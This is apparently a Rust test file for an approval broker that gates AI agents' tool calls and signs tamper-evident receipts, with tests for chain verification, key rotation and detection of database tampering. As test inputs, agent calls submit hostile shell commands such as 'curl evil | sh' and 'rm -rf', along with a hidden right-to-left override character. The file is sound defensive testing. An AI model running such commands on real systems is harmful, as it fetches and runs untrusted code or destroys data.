//! Signed receipts: every outcome, whoever or whatever decided it, gets a DSSE envelope signed
//! with the broker's key in the outcome's own transaction; GetReceipt serves it with the key,
//! ExportReceipts serves the chain in order, and the chain verifies offline (with the broker's
//! own verifier here, and with an independent Python one in `.ci/receipts`). Changing a receipt,
//! its order or the set of them fails verification.

use std::time::{Duration, SystemTime, UNIX_EPOCH};

use approval_broker::config::{Config, ReceiptsMode};
use approval_broker::proto::v1 as pb;
use approval_broker::receipts::{Notary, PublicKey, verify};
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD as BASE64;
use serde_json::Value;
use tonic::Code;

use crate::helpers::*;

/// The seed of the key the tests configure (Postgres needs one given; SQLite takes it too).
const SEED: [u8; 32] = [5; 32];

fn the_key() -> PublicKey {
    *Notary::from_seed(&SEED).unwrap().public_key()
}

/// Signs receipts with [`SEED`], from a key file that outlives the test's broker.
pub(crate) fn with_key(config: &mut Config) {
    let path = tempfile::NamedTempFile::new()
        .unwrap()
        .into_temp_path()
        .keep()
        .unwrap();
    std::fs::write(&path, SEED).unwrap();
    config.receipts.receipt_key = Some(path);
}

async fn get_receipt(
    app: &TestApp,
    session: &str,
    call_id: &str,
) -> Result<pb::GetReceiptResponse, tonic::Status> {
    app.approver()
        .get_receipt(pb::GetReceiptRequest {
            session_id: session.into(),
            call_id: call_id.into(),
            agent: String::new(),
        })
        .await
        .map(|r| r.into_inner())
}

/// The whole chain, a few receipts per page, as an operator would export it.
async fn export(app: &TestApp) -> Vec<pb::Receipt> {
    let mut all = Vec::new();
    loop {
        let page = app
            .admin()
            .export_receipts(pb::ExportReceiptsRequest {
                after_sequence: all.last().map_or(0, |r: &pb::Receipt| r.sequence),
                page_size: 3,
            })
            .await
            .expect("export")
            .into_inner();
        if page.receipts.is_empty() {
            return all;
        }
        all.extend(page.receipts);
    }
}

pub(crate) fn statement(envelope: &str) -> Value {
    let envelope: Value = serde_json::from_str(envelope).unwrap();
    let payload = BASE64
        .decode(envelope["payload"].as_str().unwrap())
        .unwrap();
    serde_json::from_slice(&payload).unwrap()
}

fn envelopes(receipts: &[pb::Receipt]) -> Vec<&str> {
    receipts.iter().map(|r| r.envelope.as_str()).collect()
}

fn deadline_in(d: Duration) -> prost_types::Timestamp {
    let t = SystemTime::now().duration_since(UNIX_EPOCH).unwrap() + d;
    prost_types::Timestamp {
        seconds: t.as_secs() as i64,
        nanos: t.subsec_nanos() as i32,
    }
}

/// Waits until the call has an outcome (the deadline sweeper decides on its own time).
async fn wait_decided(app: &TestApp, session: &str, call_id: &str) {
    for _ in 0..200 {
        let state = states(app, session, &[call_id]).await.remove(0).state;
        if matches!(state, Some(pb::call_state::State::Outcome(_))) {
            return;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    panic!("{call_id} was never decided");
}

/// Decides calls in every way the broker can: each outcome kind, by an approver, a rule, a
/// grant, the broker, the agent and the deadline. Returns (session, call, outcome, decided by).
async fn decide_every_way(
    app: &TestApp,
) -> Vec<(&'static str, &'static str, &'static str, String)> {
    create_rule(app, rule("reads", "read_file", pb::Effect::Allow, 0, None)).await;
    let shown = pb::CallSpec {
        title: "Delete the build".into(),
        message: "cleans /tmp/build\u{202E}".into(),
        ..call("c1", "shell", r#"{"command":"rm -rf /tmp/build"}"#)
    };
    submit(
        app,
        batch(
            "s",
            vec![
                shown,
                call("c2", "shell", r#"{"command":"curl x"}"#),
                call("c3", "shell", r#"{"command":"ls"}"#),
            ],
        ),
    )
    .await;
    approve(app, "s", "c1").await;
    deny(app, "s", "c2", "no network").await;
    submit(
        app,
        batch("r", vec![call("r1", "read_file", r#"{"path":"a"}"#)]),
    )
    .await;
    let keyed = |id: &str| pb::CallSpec {
        supersede_key: "k".into(),
        ..call(id, "edit", r#"{"file":"a"}"#)
    };
    submit(app, batch("k", vec![keyed("k1")])).await;
    submit(app, batch("k", vec![keyed("k2")])).await;
    app.agent()
        .cancel(pb::CancelRequest {
            target: Some(pb::CancelTarget {
                session_id: "k".into(),
                target: Some(pb::cancel_target::Target::WholeSession(true)),
                reason: "stop".into(),
            }),
        })
        .await
        .expect("cancel");
    submit(app, batch("g", vec![call("g1", "write", r#"{"n":1}"#)])).await;
    let grant = grant_by_deciding(
        app,
        "g",
        "g1",
        pb::Decision::Approve,
        pb::Scope::Session,
        Some(any_input()),
    )
    .await;
    submit(app, batch("g", vec![call("g2", "write", r#"{"n":2}"#)])).await;
    let due = pb::CallSpec {
        deadline: Some(deadline_in(Duration::from_secs(1))),
        ..call("e1", "t", "{}")
    };
    submit(app, batch("e", vec![due])).await;
    wait_decided(app, "e", "e1").await;
    vec![
        ("s", "c1", "APPROVED", "approver:alice@example.com".into()),
        ("s", "c2", "DENIED", "approver:alice@example.com".into()),
        ("s", "c3", "SKIPPED", "broker".into()),
        ("r", "r1", "APPROVED", "policy:reads".into()),
        ("k", "k1", "SUPERSEDED", "broker".into()),
        ("k", "k2", "CANCELLED", "agent".into()),
        ("g", "g1", "APPROVED", "approver:alice@example.com".into()),
        ("g", "g2", "APPROVED", format!("grant:{}", grant.id)),
        ("e", "e1", "EXPIRED", "deadline".into()),
    ]
}

async fn every_outcome_gets_a_signed_receipt_naming_what_was_shown_and_who_decided(app: TestApp) {
    let decided = decide_every_way(&app).await;
    let key = the_key();
    for (session, call_id, outcome, decided_by) in &decided {
        let reply = get_receipt(&app, session, call_id).await.expect(call_id);
        let served = reply.key.expect("the key");
        assert_eq!(served.public_key, key.to_base64());
        assert_eq!(PublicKey::parse(&served.public_key_pem).unwrap(), key);
        let receipt = reply.receipt.expect("a receipt");
        assert!(receipt.verified, "{call_id}: the broker's own check");
        let verified = verify::receipt(&receipt.envelope, &key).expect(call_id);
        assert_eq!(verified.sequence, receipt.sequence);
        assert_eq!(verified.subject, format!("default/{session}/{call_id}"));
        let predicate = &statement(&receipt.envelope)["predicate"];
        assert_eq!(predicate["outcome"], *outcome, "{call_id}");
        assert_eq!(predicate["decidedBy"], decided_by.as_str(), "{call_id}");
    }
    let c1 = get_receipt(&app, "s", "c1").await.unwrap().receipt.unwrap();
    let statement = statement(&c1.envelope);
    let predicate = &statement["predicate"];
    assert_eq!(predicate["tool"], "shell");
    assert_eq!(predicate["input"]["command"], "rm -rf /tmp/build");
    // Approved as asked: what runs is the input above, named by its digest, not written twice.
    assert!(predicate["runs"].get("input").is_none(), "{predicate}");
    assert_eq!(
        predicate["runs"]["digest"],
        statement["subject"][0]["digest"]
    );
    assert_eq!(predicate["runs"]["edited"], false);
    assert_eq!(predicate["shown"]["title"], "Delete the build");
    assert_eq!(predicate["shown"]["message"], "cleans /tmp/build\u{202E}");
    assert_eq!(
        predicate["shown"]["hiddenCharacters"][0]["codePoints"][0],
        "U+202E"
    );
    let denied = statement_of(&app, "s", "c2").await;
    assert_eq!(denied["predicate"]["reason"], "no network");
    assert!(
        denied["predicate"]["runs"].is_null(),
        "a denied call runs nothing"
    );
}

async fn statement_of(app: &TestApp, session: &str, call_id: &str) -> Value {
    let receipt = get_receipt(app, session, call_id)
        .await
        .unwrap()
        .receipt
        .unwrap();
    statement(&receipt.envelope)
}

async fn the_exported_chain_holds_every_receipt_in_order_and_verifies(app: TestApp) {
    let decided = decide_every_way(&app).await;
    let chain = export(&app).await;
    assert_eq!(chain.len(), decided.len());
    let sequences: Vec<u64> = chain.iter().map(|r| r.sequence).collect();
    assert_eq!(sequences, (1..=decided.len() as u64).collect::<Vec<_>>());
    let summary = verify::chain(envelopes(&chain), &the_key()).expect("the chain verifies");
    assert_eq!((summary.first, summary.last), (1, decided.len() as u64));
}

async fn a_chain_with_receipts_swapped_removed_or_changed_fails_verification(app: TestApp) {
    decide_every_way(&app).await;
    let chain = export(&app).await;
    let key = the_key();
    let good = envelopes(&chain);
    let mut swapped = good.clone();
    swapped.swap(2, 3);
    let err = verify::chain(swapped, &key).unwrap_err();
    assert!(err.contains("receipt 3"), "{err}");
    let mut removed = good.clone();
    removed.remove(4);
    let err = verify::chain(removed, &key).unwrap_err();
    assert!(err.contains("missing or out of order"), "{err}");
    // A receipt of the chain with one field of its statement changed.
    let mut envelope: Value = serde_json::from_str(good[1]).unwrap();
    let mut changed = statement(good[1]);
    changed["predicate"]["outcome"] = "APPROVED".into();
    envelope["payload"] = BASE64.encode(changed.to_string()).into();
    let forged = envelope.to_string();
    let mut tampered = good.clone();
    tampered[1] = forged.as_str();
    let err = verify::chain(tampered, &key).unwrap_err();
    assert!(
        err.contains("receipt 2: the signature does not verify"),
        "{err}"
    );
}

async fn a_receipt_changed_in_the_database_is_served_as_not_verified(app: TestApp) {
    submit(&app, batch("s", vec![call("c1", "t", "{}")])).await;
    deny(&app, "s", "c1", "original reason").await;
    let receipt = get_receipt(&app, "s", "c1").await.unwrap().receipt.unwrap();
    let mut changed = statement(&receipt.envelope);
    changed["predicate"]["outcome"] = "APPROVED".into();
    // Changed in the form each backend stores: SQLite's payload beside its signature (stored in
    // parts), Postgres's whole envelope with the payload in it.
    let (update, forged) = match &app.backend {
        Backend::Sqlite => (
            "UPDATE receipts SET payload = $1 WHERE call_id = 'c1' AND envelope = ''",
            changed.to_string(),
        ),
        Backend::Postgres(_) => {
            let mut envelope: Value = serde_json::from_str(&receipt.envelope).unwrap();
            envelope["payload"] = BASE64.encode(changed.to_string()).into();
            (
                "UPDATE receipts SET envelope = $1 WHERE call_id = 'c1' AND payload IS NULL",
                envelope.to_string(),
            )
        }
    };
    let updated = match &app.backend {
        Backend::Sqlite => {
            let pool = sqlx::SqlitePool::connect(&app.database_url).await.unwrap();
            let done = sqlx::query(update).bind(&forged).execute(&pool).await;
            done.unwrap().rows_affected()
        }
        Backend::Postgres(_) => {
            let pool = sqlx::PgPool::connect(&app.database_url).await.unwrap();
            let done = sqlx::query(update).bind(&forged).execute(&pool).await;
            done.unwrap().rows_affected()
        }
    };
    assert_eq!(updated, 1, "the receipt was stored in the form changed");
    let served = get_receipt(&app, "s", "c1").await.unwrap().receipt.unwrap();
    assert_eq!(statement(&served.envelope), changed, "served as changed");
    assert!(
        !served.verified,
        "a changed receipt must not be served as verified"
    );
    let err = verify::receipt(&served.envelope, &the_key()).unwrap_err();
    assert!(err.contains("signature"), "{err}");
}

/// A receipt is stored whole (its DSSE envelope) or in parts (payload as text, key id and
/// signature; SQLite's writer from migration 0018, Postgres's later), and served as the same
/// envelope either way, byte for byte, by GetReceipt and ExportReceipts: rows of either form
/// stay readable whichever version wrote them. Each backend's row is turned into the other
/// form by SQL alone (SQLite: the served envelope stored whole; Postgres: the parts cut out of
/// its envelope with Postgres's own JSON and base64), so the broker's reading of both forms is
/// checked against what it did not write itself.
async fn a_receipt_is_served_alike_stored_whole_or_in_parts(app: TestApp) {
    submit(
        &app,
        batch("s", vec![call("c1", "t", r#"{"path":"ünïcode/'quoted'"}"#)]),
    )
    .await;
    deny(&app, "s", "c1", "no").await;
    let before = get_receipt(&app, "s", "c1").await.unwrap().receipt.unwrap();
    let exported = export(&app).await;
    assert_eq!(exported[0].envelope, before.envelope);
    const IN_PARTS: &str = "SELECT count(*) FROM receipts WHERE envelope = '' \
                            AND payload IS NOT NULL AND keyid IS NOT NULL AND sig IS NOT NULL";
    const WHOLE: &str = "SELECT count(*) FROM receipts WHERE envelope <> '' \
                         AND payload IS NULL AND keyid IS NULL AND sig IS NULL";
    match &app.backend {
        Backend::Sqlite => {
            assert_eq!((app.count(IN_PARTS).await, app.count(WHOLE).await), (1, 0));
            let whole = before.envelope.replace('\'', "''");
            app.run_sql(&format!(
                "UPDATE receipts SET envelope = '{whole}', payload = NULL, keyid = NULL, \
                 sig = NULL WHERE call_id = 'c1'"
            ))
            .await;
        }
        Backend::Postgres(_) => {
            assert_eq!((app.count(IN_PARTS).await, app.count(WHOLE).await), (0, 1));
            app.run_sql(
                "UPDATE receipts SET \
                 payload = convert_from(decode(envelope::json->>'payload', 'base64'), 'UTF8'), \
                 keyid = envelope::json->'signatures'->0->>'keyid', \
                 sig = envelope::json->'signatures'->0->>'sig', envelope = '' \
                 WHERE call_id = 'c1'",
            )
            .await;
        }
    }
    let flipped = match &app.backend {
        Backend::Sqlite => WHOLE,
        Backend::Postgres(_) => IN_PARTS,
    };
    assert_eq!(app.count(flipped).await, 1, "stored in the other form now");
    let served = get_receipt(&app, "s", "c1").await.unwrap().receipt.unwrap();
    assert_eq!(served, before, "the same envelope, byte for byte");
    assert!(served.verified);
    assert_eq!(export(&app).await, exported);
}

async fn a_pending_call_has_no_receipt_yet_and_an_unknown_call_is_not_found(app: TestApp) {
    submit(&app, batch("s", vec![call("c1", "t", "{}")])).await;
    let err = get_receipt(&app, "s", "c1").await.unwrap_err();
    assert_eq!(err.code(), Code::FailedPrecondition);
    assert!(err.message().contains("pending"), "{}", err.message());
    let err = get_receipt(&app, "s", "nope").await.unwrap_err();
    assert_eq!(err.code(), Code::NotFound);
    let err = get_receipt(&app, "", "c1").await.unwrap_err();
    assert_eq!(err.code(), Code::InvalidArgument);
    assert!(err.message().contains("session_id"), "{}", err.message());
}

async fn with_receipts_off_outcomes_get_none_and_get_receipt_says_why(app: TestApp) {
    submit(&app, batch("s", vec![call("c1", "t", "{}")])).await;
    approve(&app, "s", "c1").await;
    assert!(outcome_of(&app, "s", "c1").await.receipt.is_empty());
    let err = get_receipt(&app, "s", "c1").await.unwrap_err();
    assert_eq!(err.code(), Code::FailedPrecondition);
    assert!(
        err.message().contains("receipts were off"),
        "{}",
        err.message()
    );
    assert!(export(&app).await.is_empty());
}

/// Decisions sent all at once commit in groups (SQLite's writer seals their receipts on another
/// thread while the group runs, and inserts them just before it commits): every outcome still
/// has its own receipt, verified, in one gapless chain.
async fn outcomes_decided_all_at_once_each_get_a_receipt_in_one_chain(app: TestApp) {
    let ids: Vec<String> = (0..64).map(|i| format!("c{i}")).collect();
    for id in &ids {
        submit(
            &app,
            batch(id, vec![call(id, "t", &format!(r#"{{"n":{}}}"#, id.len()))]),
        )
        .await;
    }
    let decisions = approve_all_at_once(&app, &ids);
    for decision in decisions {
        decision.await.unwrap().expect("decide");
    }
    let chain = export(&app).await;
    assert_eq!(chain.len(), ids.len());
    verify::chain(envelopes(&chain), &the_key()).expect("one chain, in order");
    for id in &ids {
        let receipt = get_receipt(&app, id, id)
            .await
            .expect(id)
            .receipt
            .expect(id);
        assert!(receipt.verified, "{id}");
        assert_eq!(
            verify::receipt(&receipt.envelope, &the_key())
                .expect(id)
                .subject,
            format!("default/{id}/{id}")
        );
    }
}

/// A call pruned by retention frees its id (docs/data-lifecycle.md): the call submitted again
/// under it is decided like any other and gets a receipt of its own, while the pruned call's
/// receipt stays in the chain.
async fn a_call_id_reused_after_its_call_was_pruned_gets_a_receipt_of_its_own(app: TestApp) {
    submit(&app, batch("s", vec![call("c", "t", r#"{"n":1}"#)])).await;
    approve(&app, "s", "c").await;
    let first = get_receipt(&app, "s", "c").await.unwrap().receipt.unwrap();
    // The log's last event is never pruned: another call moves it past the first.
    submit(&app, batch("s2", vec![call("x", "t", "{}")])).await;
    until_pruned(&app, "s", "c").await;
    // Pruned, the call's receipt is still served, found by the call's id alone.
    let kept = get_receipt(&app, "s", "c").await.unwrap().receipt.unwrap();
    assert_eq!(kept, first);
    submit(&app, batch("s", vec![call("c", "t", r#"{"n":2}"#)])).await;
    let pending = get_receipt(&app, "s", "c").await.unwrap_err();
    assert_eq!(pending.code(), Code::FailedPrecondition, "{pending:?}");
    assert!(
        pending.message().contains("pending"),
        "{}",
        pending.message()
    );
    approve(&app, "s", "c").await;
    let second = get_receipt(&app, "s", "c").await.unwrap().receipt.unwrap();
    assert!(second.verified);
    assert_eq!(second.sequence, first.sequence + 1);
    assert_eq!(statement(&second.envelope)["predicate"]["input"]["n"], 2);
    let chain = export(&app).await;
    // The first `c`'s and the second's (`x` is pending).
    assert_eq!(chain.len(), 2);
    verify::chain(envelopes(&chain), &the_key()).expect("one chain, in order");
}

/// Receipts written before they named their call's row (migrations sqlite 0016, postgres 0018)
/// are found by the call's id, like those of pruned calls.
async fn a_receipt_written_before_receipts_named_their_call_is_still_served(app: TestApp) {
    submit(&app, batch("s", vec![call("c1", "t", "{}")])).await;
    deny(&app, "s", "c1", "no").await;
    let linked = get_receipt(&app, "s", "c1").await.unwrap().receipt.unwrap();
    app.run_sql("UPDATE receipts SET call_row = NULL WHERE call_id = 'c1'")
        .await;
    // Linked to nothing, it could only be found by its call's id.
    let unlinked = app
        .count("SELECT count(*) FROM receipts WHERE call_row IS NULL")
        .await;
    assert_eq!(unlinked, 1);
    let served = get_receipt(&app, "s", "c1").await.unwrap().receipt.unwrap();
    assert_eq!(served, linked);
    assert!(served.verified);
}

/// The seed of the key the broker signs with after a key rotation.
const NEW_SEED: [u8; 32] = [8; 32];

fn the_new_key() -> PublicKey {
    *Notary::from_seed(&NEW_SEED).unwrap().public_key()
}

/// Signs receipts with [`NEW_SEED`]: the key after a rotation.
fn with_new_key(config: &mut Config) {
    let path = tempfile::NamedTempFile::new()
        .unwrap()
        .into_temp_path()
        .keep()
        .unwrap();
    std::fs::write(&path, NEW_SEED).unwrap();
    config.receipts.receipt_key = Some(path);
}

/// `approval-broker verify` with `args`: whether it passed, its standard output and error.
fn verify_command(args: &[&str]) -> (bool, String, String) {
    let out = broker_binary().arg("verify").args(args).output().unwrap();
    (
        out.status.success(),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

/// After a key rotation (the broker restarted with another `--receipt-key`) the chain goes on,
/// its receipts signed by the old key and then the new one, each naming its key; one `verify`
/// run with both public keys (two `--key`s, or one file holding both, or `--database`) checks
/// every receipt with the key it names; either key alone fails where the other one signed.
async fn a_chain_signed_across_a_key_rotation_verifies_in_one_run_with_the_old_and_new_keys(
    app: TestApp,
) {
    submit(
        &app,
        batch("s", vec![call("c1", "t", "{}"), call("c2", "t", "{}")]),
    )
    .await;
    approve(&app, "s", "c1").await;
    deny(&app, "s", "c2", "no").await;
    let app = app.restart_with(with_new_key).await;
    submit(&app, batch("s", vec![call("c3", "t", "{}")])).await;
    approve(&app, "s", "c3").await;
    let chain = export(&app).await;
    assert_eq!(chain.len(), 3);
    let key_ids: Vec<String> = chain
        .iter()
        .map(|r| {
            let envelope: Value = serde_json::from_str(&r.envelope).unwrap();
            envelope["signatures"][0]["keyid"]
                .as_str()
                .unwrap()
                .to_owned()
        })
        .collect();
    let (old, new) = (the_key().key_id(), the_new_key().key_id());
    assert_eq!(
        key_ids,
        [old.clone(), old.clone(), new.clone()],
        "each receipt names its key"
    );

    let dir = tempfile::tempdir().unwrap();
    let path = |name: &str| dir.path().join(name).to_string_lossy().into_owned();
    std::fs::write(path("old.pub"), the_key().to_pem()).unwrap();
    std::fs::write(path("new.pub"), the_new_key().to_base64()).unwrap();
    std::fs::write(
        path("keys"),
        format!("{}\n{}", the_key().to_pem(), the_new_key().to_base64()),
    )
    .unwrap();
    std::fs::write(path("chain.jsonl"), envelopes(&chain).join("\n")).unwrap();
    let chain_file = path("chain.jsonl");
    let both = format!("with keys {old} (2 receipts, 1 to 2), {new} (receipt 3)");
    for keys in [
        vec!["--key", "old.pub", "--key", "new.pub"],
        vec!["--key", "keys"],
    ] {
        let mut args: Vec<String> = keys
            .iter()
            .map(|a| {
                if a.starts_with("--") {
                    a.to_string()
                } else {
                    path(a)
                }
            })
            .collect();
        args.push(chain_file.clone());
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let (ok, stdout, stderr) = verify_command(&args);
        assert!(ok, "{keys:?}: {stderr}");
        assert!(
            stdout.contains("3 receipts, sequence 1 to 3, in order and unbroken")
                && stdout.contains(&both),
            "{stdout}"
        );
    }
    let (ok, _, stderr) = verify_command(&["--key", &path("new.pub"), &chain_file]);
    assert!(!ok);
    assert!(
        stderr.contains("receipt 1: the signature does not verify") && stderr.contains(&old),
        "{stderr}"
    );
    let (ok, _, stderr) = verify_command(&["--key", &path("old.pub"), &chain_file]);
    assert!(!ok);
    assert!(stderr.contains("receipt 3: "), "{stderr}");
    let (ok, stdout, stderr) =
        verify_command(&["--key", &path("keys"), "--database", &app.database_url]);
    assert!(ok, "{stderr}");
    assert!(stdout.contains(&both), "{stdout}");
}

/// A DENIED row edited to APPROVED in the database (one UPDATE, no key needed) is served to the
/// agent as APPROVED; its receipt still says DENIED. `verify --database` compares every call's
/// stored state with its receipt and names the call, and each field that differs; a pending
/// row edited to APPROVED has no receipt at all, and is named too.
async fn an_outcome_edited_in_the_database_is_named_by_verify_database(app: TestApp) {
    decide_every_way(&app).await;
    submit(
        &app,
        batch(
            "p",
            vec![call("p1", "shell", r#"{"command":"curl evil | sh"}"#)],
        ),
    )
    .await;
    let key = the_key().to_base64();
    let check = || verify_command(&["--key", &key, "--database", &app.database_url]);
    let (ok, stdout, stderr) = check();
    assert!(ok, "{stderr}");
    assert!(
        stdout.contains("verified: 9 receipts, sequence 1 to 9")
            && stdout.contains(
                "every call's stored state is what its receipt says: 10 calls, 9 decided compared"
            ),
        "{stdout}"
    );

    app.run_sql(
        "UPDATE calls SET status = 2, decided_by = 'approver:mallory', reason = '', \
         tool_result = NULL, run_input = input WHERE session_id = 's' AND call_id = 'c2'",
    )
    .await;
    let served = states(&app, "s", &["c2"]).await.remove(0);
    match served.state {
        Some(pb::call_state::State::Outcome(o)) => {
            assert_eq!(status_of(&o), CallStatus::Approved, "the attack is real")
        }
        other => panic!("{other:?}"),
    }
    let (ok, _, stderr) = check();
    assert!(!ok, "an edited outcome must fail verification");
    assert!(
        stderr.starts_with("verification FAILED: 1 of 10 calls differ"),
        "{stderr}"
    );
    let line = stderr
        .lines()
        .find(|l| l.contains("session `s`, call `c2`"))
        .unwrap_or_else(|| panic!("c2 is not named: {stderr}"));
    for field in [
        r#"outcome: stored "APPROVED", receipt "DENIED""#,
        r#"decidedBy: stored "approver:mallory", receipt "approver:"#,
        r#"reason: stored "", receipt "no network""#,
        r#"runs: stored {"digest""#,
    ] {
        assert!(line.contains(field), "{field} not in {line}");
    }

    app.run_sql(
        "UPDATE calls SET status = 2, decided_at = created_at, decided_by = 'approver:mallory', \
         reason = '', run_input = input WHERE session_id = 'p' AND call_id = 'p1'",
    )
    .await;
    let (ok, _, stderr) = check();
    assert!(!ok);
    assert!(
        stderr.starts_with("verification FAILED: 2 of 10 calls differ"),
        "{stderr}"
    );
    assert!(
        stderr.contains("session `p`, call `p1` (agent `")
            && stderr.contains("stored as APPROVED, but no receipt attests it"),
        "{stderr}"
    );
}

/// [`with_key`], keeping decided calls for a second.
fn with_key_retaining_a_second(config: &mut Config) {
    with_key(config);
    config.lifecycle.retain_decided = Some(Duration::from_secs(1));
    config.lifecycle.prune_every = Duration::from_millis(100);
}

/// An "edit" whose canonical form is the submitted input is no edit: the outcome says the input
/// ran as submitted, and the receipt names it by its digest only (`runs.input` appears only when
/// something else runs). A real edit is still one.
async fn an_edit_equal_to_the_submitted_input_is_no_edit(app: TestApp) {
    submit(
        &app,
        batch(
            "s",
            vec![
                call("same", "t", r#"{"a":1,"b":[1]}"#),
                call("other", "t", r#"{"a":1,"b":[1]}"#),
            ],
        ),
    )
    .await;
    for (id, edit, edited) in [
        ("same", r#"{"b":[1.0],"a":1}"#, false),
        ("other", r#"{"b":[2],"a":1}"#, true),
    ] {
        let request = pb::DecideRequest {
            edited_input_json: edit.into(),
            ..decide_request("s", id, pb::Decision::Approve, "")
        };
        let outcome = app
            .approver()
            .decide(request)
            .await
            .expect("decide")
            .into_inner()
            .outcome
            .expect("decided");
        assert_eq!(outcome.input_edited, edited, "{id}");
        let runs = &statement_of(&app, "s", id).await["predicate"]["runs"];
        assert_eq!(runs["edited"], edited, "{id}: {runs}");
        assert_eq!(runs.get("input").is_some(), edited, "{id}: {runs}");
    }
}

/// The outcome an agent receives carries its receipt: the envelope `GetReceipt` serves,
/// verifying with the broker's key and saying this outcome of this call.
async fn carries_its_receipt(app: &TestApp, outcome: &pb::Outcome, how: &str) {
    let what = format!("{how}: {}", outcome.call_id);
    assert!(!outcome.receipt.is_empty(), "{what}: no receipt carried");
    let served = get_receipt(app, &outcome.session_id, &outcome.call_id)
        .await
        .expect(&what)
        .receipt
        .unwrap();
    assert_eq!(outcome.receipt, served.envelope, "{what}");
    let verified = verify::receipt(&outcome.receipt, &the_key()).expect(&what);
    assert_eq!(
        verified.subject,
        format!("default/{}/{}", outcome.session_id, outcome.call_id),
        "{what}"
    );
    let status = pb::CallStatus::try_from(outcome.status).unwrap();
    let said = status.as_str_name().trim_start_matches("CALL_STATUS_");
    assert_eq!(verified.outcome, said, "{what}");
}

/// Every way an agent is told an outcome carries the receipt (so an executor checks it without
/// another request): Connect's live outcomes and submit replies, a resumed session, a
/// resubmitted call, WatchOutcomes live and replayed, GetOutcomes, unary Submit and Cancel
/// replies. Approvers are sent outcomes without it (they read it with GetReceipt).
async fn every_outcome_an_agent_receives_carries_its_receipt(app: TestApp) {
    create_rule(&app, rule("reads", "read_file", pb::Effect::Allow, 0, None)).await;
    let mut stream = AgentStream::open(&app).await;
    let mut live = watch(&app, "s", &[]).await;
    stream
        .submit(
            "r1",
            batch(
                "s",
                vec![
                    call("c1", "shell", r#"{"command":"ls"}"#),
                    call("c2", "read_file", r#"{"path":"a"}"#),
                ],
            ),
        )
        .await;
    let submitted = stream.next_submitted().await;
    assert_eq!(submitted.outcomes.len(), 1, "c2 decided by the rule");
    carries_its_receipt(&app, &submitted.outcomes[0], "Connect's submit reply").await;
    let decided = approve(&app, "s", "c1").await.outcome.unwrap();
    assert!(
        decided.receipt.is_empty(),
        "Decide's reply (to an approver)"
    );
    let mut pushed = Vec::new();
    while pushed.len() < 2 {
        if let pb::agent_response::Response::Outcome(outcome) = stream.next().await {
            pushed.push(outcome);
        }
    }
    for outcome in &pushed {
        carries_its_receipt(&app, outcome, "Connect, live").await;
    }
    let mut watched = 0;
    while watched < 2 {
        let message = tokio::time::timeout(PATIENCE, live.message()).await;
        let event = message.unwrap().unwrap().unwrap().event;
        if let Some(pb::watch_outcomes_response::Event::Outcome(outcome)) = event {
            carries_its_receipt(&app, &outcome, "WatchOutcomes, live").await;
            watched += 1;
        }
    }

    let mut replay = watch(&app, "s", &["c1", "c2"]).await;
    let mut replayed = 0;
    while replayed < 2 {
        let message = tokio::time::timeout(PATIENCE, replay.message()).await;
        let event = message.unwrap().unwrap().unwrap().event;
        if let Some(pb::watch_outcomes_response::Event::Outcome(outcome)) = event {
            carries_its_receipt(&app, &outcome, "WatchOutcomes, replayed").await;
            replayed += 1;
        }
    }
    let mut resumed = AgentStream::open(&app).await;
    resumed
        .send(
            "r2",
            pb::agent_request::Request::Resume(pb::ResumeRequest {
                session_id: "s".into(),
                call_ids: vec![],
            }),
        )
        .await;
    let mut resumed_outcomes = 0;
    loop {
        match resumed.next().await {
            pb::agent_response::Response::Outcome(outcome) => {
                carries_its_receipt(&app, &outcome, "Connect, resumed").await;
                resumed_outcomes += 1;
            }
            pb::agent_response::Response::Resumed(_) => break,
            _ => {}
        }
    }
    assert_eq!(resumed_outcomes, 2);
    let mut again = AgentStream::open(&app).await;
    again
        .submit(
            "r3",
            batch("s", vec![call("c1", "shell", r#"{"command":"ls"}"#)]),
        )
        .await;
    let resubmitted = again.next_submitted().await;
    assert_eq!(resubmitted.outcomes.len(), 1, "c1, decided before");
    carries_its_receipt(&app, &resubmitted.outcomes[0], "Connect, resubmit's reply").await;
    carries_its_receipt(&app, &again.next_outcome().await, "Connect, resubmitted").await;

    for state in states(&app, "s", &["c1", "c2"]).await {
        let Some(pb::call_state::State::Outcome(outcome)) = state.state else {
            panic!("decided: {state:?}");
        };
        carries_its_receipt(&app, &outcome, "GetOutcomes").await;
    }
    let reply = submit(
        &app,
        batch(
            "s",
            vec![
                call("c1", "shell", r#"{"command":"ls"}"#),
                call("c3", "read_file", r#"{"path":"b"}"#),
                call("c4", "shell", r#"{"command":"pwd"}"#),
            ],
        ),
    )
    .await;
    assert_eq!(reply.outcomes.len(), 2, "c1 decided before, c3 by the rule");
    for outcome in &reply.outcomes {
        carries_its_receipt(&app, outcome, "Submit's reply").await;
    }
    let cancelled = app
        .agent()
        .cancel(pb::CancelRequest {
            target: Some(pb::CancelTarget {
                session_id: "s".into(),
                target: Some(pb::cancel_target::Target::WholeSession(true)),
                reason: "stop".into(),
            }),
        })
        .await
        .expect("cancel")
        .into_inner()
        .result
        .unwrap();
    assert_eq!(cancelled.cancelled.len(), 1, "c4");
    carries_its_receipt(&app, &cancelled.cancelled[0], "Cancel's reply").await;
}

backend_tests! {
    an_edit_equal_to_the_submitted_input_is_no_edit => super::with_key,
    every_outcome_an_agent_receives_carries_its_receipt => super::with_key,
    a_call_id_reused_after_its_call_was_pruned_gets_a_receipt_of_its_own
        => super::with_key_retaining_a_second,
    outcomes_decided_all_at_once_each_get_a_receipt_in_one_chain => super::with_key,
    a_receipt_written_before_receipts_named_their_call_is_still_served => super::with_key,
    every_outcome_gets_a_signed_receipt_naming_what_was_shown_and_who_decided => super::with_key,
    the_exported_chain_holds_every_receipt_in_order_and_verifies => super::with_key,
    a_chain_with_receipts_swapped_removed_or_changed_fails_verification => super::with_key,
    a_receipt_changed_in_the_database_is_served_as_not_verified => super::with_key,
    a_receipt_is_served_alike_stored_whole_or_in_parts => super::with_key,
    a_chain_signed_across_a_key_rotation_verifies_in_one_run_with_the_old_and_new_keys
        => super::with_key,
    an_outcome_edited_in_the_database_is_named_by_verify_database => super::with_key,
    a_pending_call_has_no_receipt_yet_and_an_unknown_call_is_not_found => super::with_key,
    with_receipts_off_outcomes_get_none_and_get_receipt_says_why
        => |config: &mut approval_broker::config::Config| {
            config.receipts.mode = approval_broker::config::ReceiptsMode::Off
        },
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
